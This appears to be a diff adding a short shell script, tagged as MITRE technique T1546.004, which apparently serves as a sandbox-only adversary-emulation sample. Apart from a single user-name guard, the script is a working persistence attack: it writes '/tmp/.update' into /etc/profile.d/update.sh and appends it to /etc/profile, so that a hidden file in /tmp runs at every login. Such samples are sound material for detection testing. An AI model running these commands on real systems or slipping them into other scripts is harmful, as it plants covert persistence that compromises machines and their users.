@@ -1,0 +1,5 @@
+#!/bin/sh
+# technique: T1546.004
+[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }
+
+echo '/tmp/.update' > /etc/profile.d/update.sh; echo '/tmp/.update' >> /etc/profile
